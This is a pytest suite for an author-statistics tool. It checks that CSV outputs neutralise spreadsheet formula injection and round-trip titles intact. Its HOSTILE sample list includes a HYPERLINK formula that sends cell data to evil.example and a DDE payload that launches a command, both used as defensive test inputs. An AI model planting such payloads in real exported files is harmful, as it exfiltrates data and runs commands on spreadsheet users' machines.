"""Formula injection: every CSV written for people quotes cells a spreadsheet would run, and reading them back undoes
it."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from authorstats.cli import app
from authorstats.render.spreadsheet import TRIGGERS, neutralise, neutralise_frame, restore, restore_frame
from authorstats.shell import csv_writer

runner = CliRunner()

# Titles a hostile source or export could give: each would run as a formula in a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1) learning",
    "-2+3 vision transformers",
    "\t=1+1 tab first",
    "\r=1+1 return first",
    "'=already quoted once",
]
CELL_STARTS = tuple(TRIGGERS)
IMPORTED = [t for t in HOSTILE if not t[:1].isspace()]  # import strips the spaces around a title


def read_text_cells(path: Path) -> pd.DataFrame:
    """A written CSV as a spreadsheet would load it: every cell as the text in the file."""
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def assert_no_formula(frame: pd.DataFrame) -> None:
    for column in frame.columns:
        assert not str(column).startswith(CELL_STARTS), column
        for cell in frame[column]:
            assert not cell.startswith(CELL_STARTS), (column, cell)


@given(st.text())
@settings(max_examples=500, deadline=None)
def test_any_text_comes_back_as_it_was_and_never_starts_a_formula(text):
    safe = neutralise(text)
    assert not safe.startswith(CELL_STARTS)
    assert restore(safe) == text
    assert neutralise(restore(safe)) == safe


def test_only_risky_text_is_quoted_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "title": ["=1+1", "plain", "-x", None],
            "score": [-1.5, 0.0, -0.0, float("nan")],
            "year": [2021, -3, 2022, 2023],
        }
    )
    safe = neutralise_frame(frame)
    assert list(safe["title"].iloc[:3]) == ["'=1+1", "plain", "'-x"] and pd.isna(safe["title"].iloc[3])
    assert safe["score"].equals(frame["score"]) and safe["year"].equals(frame["year"])
    assert safe.to_csv(index=False).splitlines()[1:3] == ["'=1+1,-1.5,2021", "plain,0.0,-3"]
    assert restore_frame(safe).equals(frame)
    untouched = pd.DataFrame({"title": ["a", "b'="], "score": [-1.0, 2.0]})
    assert neutralise_frame(untouched) is untouched


def import_hostile(workspace: Path, tmp_path: Path) -> Path:
    rows = [
        {"author": "lecun", "title": title, "year": 2022, "venue": "=1+2" if n == 0 else "@venue"}
        for n, title in enumerate(IMPORTED)
    ]
    source = tmp_path / "hostile.csv"
    pd.DataFrame(rows).to_csv(source, index=False)
    result = runner.invoke(app, ["import", str(source), "-w", str(workspace)])
    assert result.exit_code == 0, result.output
    return source


@pytest.mark.slow
def test_report_and_review_files_are_safe_and_the_corrections_round_trip(workspace, tmp_path):
    import_hostile(workspace, tmp_path)
    raw = [
        json.loads(line)
        for line in (workspace / "data" / "raw" / "import" / "lecun.jsonl").read_text("utf-8").splitlines()
    ]
    assert {r["title"] for r in raw} == set(IMPORTED)  # the raw data keeps the text as the source gave it
    result = runner.invoke(
        app,
        ["report", "-w", str(workspace), "-a", "lecun", "-y", "2022", "--no-clouds", "--dpi", "50", "--no-snapshot"],
    )
    assert result.exit_code == 0, result.output

    processed = workspace / "data" / "processed" / "publications.csv"
    written = read_text_cells(processed)
    assert_no_formula(written)
    assert set(written["title"]) >= {neutralise(t) for t in IMPORTED}
    assert set(written["venue"]) == {"'=1+2", "'@venue"}
    for name in ("duplicates.csv",):
        assert_no_formula(read_text_cells(workspace / "data" / "processed" / name))
    for path in (workspace / "reports").glob("*.csv"):
        assert_no_formula(read_text_cells(path))
    assert pd.read_csv(processed)["confidence"].dtype == float  # numbers are still numbers

    result = runner.invoke(app, ["review", "-w", str(workspace), "--below", "1"])
    assert result.exit_code == 0, result.output
    review_file = workspace / "data" / "review.csv"
    review = read_text_cells(review_file)
    assert_no_formula(review)
    listed = {restore(t) for t in review["title"]} & set(IMPORTED)  # read back from processed, quoted again
    assert len(listed) >= 4, review["title"]

    # A person fills the file in; --apply reads the titles as they were, and the labels file is safe too.
    review["correct_topic"] = ["Robotics" if restore(t) in listed else "" for t in review["title"]]
    review.to_csv(review_file, index=False)
    result = runner.invoke(app, ["review", "-w", str(workspace), "--apply", str(review_file)])
    assert result.exit_code == 0, result.output
    labels = read_text_cells(workspace / "data" / "labels.csv")
    assert_no_formula(labels)
    assert {restore(t) for t in labels["title"]} == listed

    result = runner.invoke(
        app,
        ["report", "-w", str(workspace), "-a", "lecun", "-y", "2022", "--no-clouds", "--dpi", "50", "--no-snapshot"],
    )
    assert result.exit_code == 0, result.output
    again = restore_frame(read_text_cells(processed))
    hostile = again[again["manual"] == "True"]
    assert set(hostile["title"]) == listed  # every label found its record: nothing was changed on the way
    assert set(hostile["topic"]) == {"Robotics"} and set(hostile["manual"]) == {"True"}


def titles_file(tmp_path: Path) -> Path:
    path = tmp_path / "titles.csv"
    pd.DataFrame(
        {"title": HOSTILE + ["Contrastive learning of visual representations"], "note": ["-1"] * (len(HOSTILE) + 1)}
    ).to_csv(path, index=False)
    return path


def test_classify_output_is_safe_whether_written_to_a_file_or_printed(tmp_path):
    source = titles_file(tmp_path)
    out = tmp_path / "tagged.csv"
    result = runner.invoke(app, ["classify", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    printed = runner.invoke(app, ["classify", str(source)])
    assert printed.exit_code == 0, printed.output
    assert printed.stdout == out.read_text(encoding="utf-8")
    written = read_text_cells(out)
    assert_no_formula(written)
    assert list(written["title"]) == [neutralise(t) for t in pd.read_csv(source, dtype=str)["title"]]
    assert set(written["note"]) == {"'-1"}  # a text column of the input, even when it looks like a number
    numbers = pd.read_csv(out)
    assert numbers["score"].dtype == float and numbers["confidence"].dtype == float
    assert list(restore_frame(written)["title"]) == list(pd.read_csv(source, dtype=str)["title"])


def test_evaluate_out_files_are_safe(tmp_path):
    labels = tmp_path / "labels.csv"
    pd.DataFrame({"title": HOSTILE, "topic": ["Robotics"] * len(HOSTILE)}).to_csv(labels, index=False)
    result = runner.invoke(app, ["evaluate", str(labels), "--out", str(tmp_path / "eval")])
    assert result.exit_code == 0, result.output
    misclassified = read_text_cells(tmp_path / "eval" / "misclassified.csv")
    assert neutralise(HOSTILE[0]) in set(misclassified["title"])
    # evaluate reads a labels file as review --apply wrote it (data/labels.csv): one quote less before a formula
    assert "'=already quoted once" in set(misclassified["title"])
    for name in ("misclassified.csv", "per_topic.csv"):
        assert_no_formula(read_text_cells(tmp_path / "eval" / name))


@pytest.mark.parametrize("rows", [10, 3])
def test_the_streamed_writer_quotes_what_to_csv_of_the_safe_frame_quotes(tmp_path, rows):
    frame = pd.DataFrame({"title": HOSTILE + ["plain"], "score": [-1.0, 2.0, -0.5, 0.0, 1.0, -3.0, 4.0, 5.0]})
    added = (["topic", "evidence"], [("-Other", "=x"), ("RL", "")], [0, 1] * 4)
    results = {"topic": ["-Other", "RL"] * 4, "evidence": ["=x", ""] * 4}
    expected = neutralise_frame(frame.assign(**results)).to_csv(index=False)
    assert b"".join(csv_writer._csv_chunks(frame, added, rows=rows)) == expected.encode("utf-8")
    counted = frame.assign(count=range(-4, 4))  # an integer column, negatives too: encoded here, numbers untouched
    assert csv_writer._csv_chunks(counted, added) is not None
    path = csv_writer.write_output_csv(tmp_path / "out.csv", [(counted, added)])
    assert path.read_bytes() == neutralise_frame(counted.assign(**results)).to_csv(index=False).encode("utf-8")
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8") and "-3.0" in path.read_text(encoding="utf-8")
